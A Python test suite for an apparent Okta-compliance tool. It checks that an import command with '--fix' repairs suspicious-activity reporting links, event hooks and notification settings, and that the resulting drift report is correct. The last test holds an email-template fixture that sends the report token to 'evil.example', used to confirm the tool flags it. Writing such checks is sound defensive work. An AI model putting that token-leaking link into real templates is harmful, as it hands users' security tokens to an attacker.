"""``sarguard import --fix``: the compliant version as a reviewable diff.

After ``import --fix`` and the hook secret, ``check`` passes every mandatory control, and
``drift`` against the same org lists exactly the fixes — as ``changed``/``missing`` — and nothing
else. Each rule of the issue gets its own broken part of one org; the bodies are judged by the
controls' own functions (SAR-03 ``judge_body``, SAR-09 ``missing_variable_groups``).
"""

from __future__ import annotations

import re

import pytest

from sarguard.adopt.bodies import REPORT_LINK_BLOCK, insert_block, variables_block
from sarguard.adopt.check import STACK_CONTROLS
from sarguard.controls.sar03_templates_keep_link import judge_body
from sarguard.controls.sar09_templates_acceptable import missing_variable_groups
from tests.adopt.conftest import (
    STACK,
    bundled,
    check_adopted,
    drift_adopted,
    import_org,
    set_secrets,
)
from tests.adopt.helpers import drift_items

LINK = ('<p><a href="${baseURL}/login/report-suspicious-activity?token='
        '${request.reportSuspiciousActivityToken}">Report suspicious activity</a></p>')
NEW_SIGN_ON = "NewSignOnNotification"


def _customization(seed: dict, brand: int, template: str, language: str) -> dict:
    items = seed["brands"][brand]["templates"][template]["customizations"]
    return next(c for c in items if c["language"] == language)


def _without_link(body: str) -> str:
    stripped = re.sub(r"[^\n]*reportSuspiciousActivityToken[^\n]*\n", "", body)
    assert judge_body(stripped)[0] == "fail"
    return stripped


def broken_org() -> dict:
    """The in-sync org with one thing wrong for every --fix rule."""
    seed = bundled("in-sync")
    seed["notifications"]["reportSuspiciousActivityEnabled"] = False          # SAR-01
    seed["notifications"]["sendEmailForFactorResetEnabled"] = False            # SAR-02
    seed["brands"][1]["templates"]["PasswordChanged"]["recipients"] = "NO_USERS"  # SAR-04
    en = _customization(seed, 0, NEW_SIGN_ON, "en")
    en["body"] = _without_link(en["body"])                                     # SAR-03: no link
    fr = _customization(seed, 0, NEW_SIGN_ON, "fr")                            # only in an HTML comment
    fr["body"] = _without_link(fr["body"]).replace(
        "</body>", "<!-- ${request.reportSuspiciousActivityToken} -->\n</body>")
    de = _customization(seed, 1, NEW_SIGN_ON, "de")                            # only in a ## comment
    de["body"] = _without_link(de["body"]).replace(
        "</body>", "## ${request.reportSuspiciousActivityToken}\n</body>")
    emea_en = _customization(seed, 1, NEW_SIGN_ON, "en")
    emea_en["body"] = emea_en["body"].replace("${request.browser}", "(browser)")  # SAR-09
    seed["roleSubscriptions"]["SUPER_ADMIN"]["REPORT_SUSPICIOUS_ACTIVITY"] = "unsubscribed"  # SAR-08
    seed["threatInsight"]["action"] = "none"                                   # SAR-10
    seed["eventHooks"][0]["status"] = "INACTIVE"                               # SAR-05
    seed["eventHooks"][0]["verificationStatus"] = "UNVERIFIED"
    return seed


def mandatory_problems(report: dict) -> list[tuple[str, str, str]]:
    return [(f["control"], f["status"], f["resource"]) for f in report["findings"]
            if f["level"] == "mandatory" and f["status"] in ("fail", "not_evaluated")
            and f["control"] in STACK_CONTROLS]


def test_fix_makes_every_mandatory_control_pass_and_drift_lists_exactly_the_fixes(
        emulator, project, sarguard, tmp_path):
    emu = emulator(broken_org())
    run = import_org(sarguard, emu, project, "--fix")
    assert run.code == 0, run.err
    fixed = {line.split()[0]: line for line in run.out.splitlines() if re.match(r"\s+SAR-\d\d ", line)}
    assert set(fixed) == {f"SAR-{n:02d}" for n in (1, 2, 3, 4, 5, 8, 9, 10)}, run.out
    set_secrets(project)

    check = check_adopted(sarguard, project, tmp_path)
    assert check.code == 0, check.out
    assert mandatory_problems(check.report) == []

    drift = drift_adopted(sarguard, emu, project, tmp_path)
    custom = "brand/{}/template/NewSignOnNotification/customization/{}"
    assert drift_items(drift.report) == sorted([
        ("changed", "securityNotificationEmails", "reportSuspiciousActivityEnabled"),
        ("changed", "securityNotificationEmails", "sendEmailForFactorResetEnabled"),
        ("changed", "brand/bnd2emeaBrand00000002/template/PasswordChanged/settings", "recipients"),
        ("changed", custom.format("default", "en"), "body"),
        ("changed", custom.format("default", "fr"), "body"),
        ("changed", custom.format("bnd2emeaBrand00000002", "de"), "body"),
        ("changed", custom.format("bnd2emeaBrand00000002", "en"), "body"),
        ("changed", "roleSubscription/SUPER_ADMIN/REPORT_SUSPICIOUS_ACTIVITY", "status"),
        ("changed", "threatInsight", "action"),
        ("changed", "eventHook/suspicious-activity-reports", "status"),
        ("changed", "eventHook/suspicious-activity-reports", "verificationStatus"),
    ])
    # The stack file marks every change for the reviewer.
    text = (project / "stacks" / f"Pulumi.{STACK}.yaml").read_text("utf-8")
    for control in ("SAR-03", "SAR-04", "SAR-05", "SAR-09"):
        assert f"--fix {control}" in text


def test_without_fix_the_broken_org_is_declared_as_it_is(emulator, project, sarguard, tmp_path):
    emu = emulator(broken_org())
    assert import_org(sarguard, emu, project).code == 0
    set_secrets(project)
    drift = drift_adopted(sarguard, emu, project, tmp_path)
    assert drift.report["drift"] == []
    check = check_adopted(sarguard, project, tmp_path)
    failing = {c for c, status, _ in mandatory_problems(check.report) if status == "fail"}
    assert failing == {"SAR-01", "SAR-02", "SAR-03", "SAR-04", "SAR-05", "SAR-08", "SAR-09"}


def _no_hook() -> dict:
    seed = bundled("in-sync")
    seed["eventHooks"] = []
    return seed


def test_fix_declares_a_hook_to_hook_url_when_none_is_subscribed(emulator, project, sarguard, tmp_path):
    emu = emulator(_no_hook())
    run = import_org(sarguard, emu, project, "--fix", "--hook-url", "https://soc.example.com/okta")
    assert run.code == 0, run.err
    assert "SAR-05  eventHook/suspicious-activity-reports: new hook to https://soc.example.com/okta" in run.out
    set_secrets(project)
    check = check_adopted(sarguard, project, tmp_path)
    assert check.code == 0 and mandatory_problems(check.report) == []
    drift = drift_adopted(sarguard, emu, project, tmp_path)
    assert drift_items(drift.report) == [("missing", "eventHook/suspicious-activity-reports", "eventHook")]
    # A new hook is created by `pulumi up`, not imported.
    assert '"okta:index/eventHook:EventHook"' not in (project / f"import-{STACK}.json").read_text("utf-8")


def test_fix_without_hook_url_says_sar05_will_fail(emulator, project, sarguard, tmp_path):
    emu = emulator(_no_hook())
    run = import_org(sarguard, emu, project, "--fix")
    assert run.code == 0
    assert "SAR-05 will fail" in run.err and "--hook-url" in run.err
    assert "after --fix, SAR-05 still fails" in run.err
    set_secrets(project)
    check = check_adopted(sarguard, project, tmp_path)
    assert check.code == 1
    assert {c for c, *_ in mandatory_problems(check.report)} == {"SAR-05"}


def test_hook_url_needs_fix_and_https(emulator, project, sarguard):
    emu = emulator("in-sync")
    run = import_org(sarguard, emu, project, "--hook-url", "https://soc.example.com")
    assert run.code == 2 and "add --fix" in run.err
    run = import_org(sarguard, emu, project, "--fix", "--hook-url", "http://soc.example.com")
    assert run.code == 2 and "https" in run.err
    assert not (project / "stacks").exists()


def test_fix_on_a_compliant_org_changes_nothing(emulator, project, sarguard):
    emu = emulator("in-sync")
    plain = import_org(sarguard, emu, project)
    before = (project / "email-templates").rglob("*.html")
    bodies = {p.relative_to(project): p.read_bytes() for p in before}
    run = import_org(sarguard, emu, project, "--fix", "--force")
    assert plain.code == run.code == 0
    assert "fixes: none needed" in run.out
    assert {p.relative_to(project): p.read_bytes() for p in (project / "email-templates").rglob("*.html")} == bodies


# ---- where the blocks go ----------------------------------------------------------------

def _passes(body: str) -> bool:
    return judge_body(body)[0] == "pass"


@pytest.mark.parametrize(("body", "where"), [
    ("<html><body><p>Hi</p></body></html>", "before </body>"),
    ("<html><BODY><p>Hi</p></Body >\n</html>", "before </body>"),
    ("<p>Hi</p>\n", "at the end"),
    ("", "at the end"),
    # Velocity drops everything after an unterminated #*: only the start is seen.
    ("<p>Hi</p>\n#* an unterminated Velocity comment\n</body>", "at the start"),
    # An unterminated <!-- ends at the block's own marker (as in a browser): the link shows.
    ("<p>Hi</p>\n<!-- old footer, unterminated\n</body></html>", "before </body>"),
])
def test_the_link_block_goes_where_an_email_shows_it(body, where):
    fixed = insert_block(body, REPORT_LINK_BLOCK, _passes)
    assert fixed is not None and _passes(fixed) and not _passes(body)
    at = fixed.index(REPORT_LINK_BLOCK[0])
    if where == "before </body>":
        assert fixed.lower().rindex("</body") > at
    elif where == "at the end":
        assert fixed.endswith(REPORT_LINK_BLOCK[1] + "\n")
    else:
        assert at == 0
    assert fixed.replace("\n".join(REPORT_LINK_BLOCK) + "\n", "") == body


def test_a_block_after_a_body_without_a_final_newline_starts_on_its_own_line():
    fixed = insert_block("<p>Hi</p>", REPORT_LINK_BLOCK, _passes)
    assert fixed == "<p>Hi</p>\n" + "\n".join(REPORT_LINK_BLOCK) + "\n"


def test_the_blocks_keep_crlf_line_endings_and_text_byte_for_byte():
    body = "<html>\r\n<body>\r\n<p>Grüße, ${org.name}</p>\r\n</body>\r\n</html>\r\n"
    fixed = insert_block(body, REPORT_LINK_BLOCK, _passes)
    assert "\r\n".join(REPORT_LINK_BLOCK) + "\r\n" in fixed
    assert "\n" not in fixed.replace("\r\n", "")
    assert fixed.replace("\r\n".join(REPORT_LINK_BLOCK) + "\r\n", "") == body


def test_the_variables_block_adds_what_sar09_requires():
    body = "<html><body><p>${request.date}</p></body></html>"
    missing = missing_variable_groups(NEW_SIGN_ON, body)
    assert missing
    fixed = insert_block(body, variables_block(g[-1] for g in missing),
                         lambda b: not missing_variable_groups(NEW_SIGN_ON, b))
    assert fixed is not None and missing_variable_groups(NEW_SIGN_ON, fixed) == []


def test_fix_marks_a_default_when_the_live_one_cannot_be_declared(emulator, project, sarguard, tmp_path):
    """Okta's default `en` customization is in a language the stack cannot declare: without
    --fix the template has no declared default (a warning says SAR-09 fails); with --fix another
    language becomes the default, and drift shows exactly that move."""
    emu = emulator("in-sync")
    with emu.state.lock:
        template = emu.state.brands["bnd1dfltBrand00000001"].templates[NEW_SIGN_ON]
        next(c for c in template.customizations if c.is_default).language = "en-AU"
    run = import_org(sarguard, emu, project)
    assert "no declared customization is the default (SAR-09 fails" in run.err
    run = import_org(sarguard, emu, project, "--fix", "--force")
    assert f"SAR-09  brand/default/template/{NEW_SIGN_ON}/customization/fr: marked isDefault: true" in run.out
    set_secrets(project)
    check = check_adopted(sarguard, project, tmp_path)
    assert check.code == 0 and mandatory_problems(check.report) == []
    drift = drift_adopted(sarguard, emu, project, tmp_path)
    assert drift_items(drift.report) == [
        ("changed", f"brand/default/template/{NEW_SIGN_ON}/customization/fr", "isDefault"),
        ("unmanaged", f"brand/default/template/{NEW_SIGN_ON}/customization/en-AU", "customization"),
    ]


def test_a_body_that_hands_the_token_elsewhere_is_not_blamed_on_the_size_limit():
    """Adding sarguard's link block cannot fix a body that also sends the token to another site
    (SAR-03 fails it either way): the warning says so instead of naming Okta's 64 KB limit, which
    it names only when size is the reason."""
    from sarguard.adopt.fixes import _why_no_link

    foreign = ('<html><body><a href="https://evil.example/?t=${request.reportSuspiciousActivityToken}">'
               "report</a></body></html>")
    why = _why_no_link(foreign)
    assert "still fails" in why and "evil.example" in why and "64 KB" not in why
    assert "64 KB" in _why_no_link("<html><body>" + "x" * 70_000 + "</body></html>")
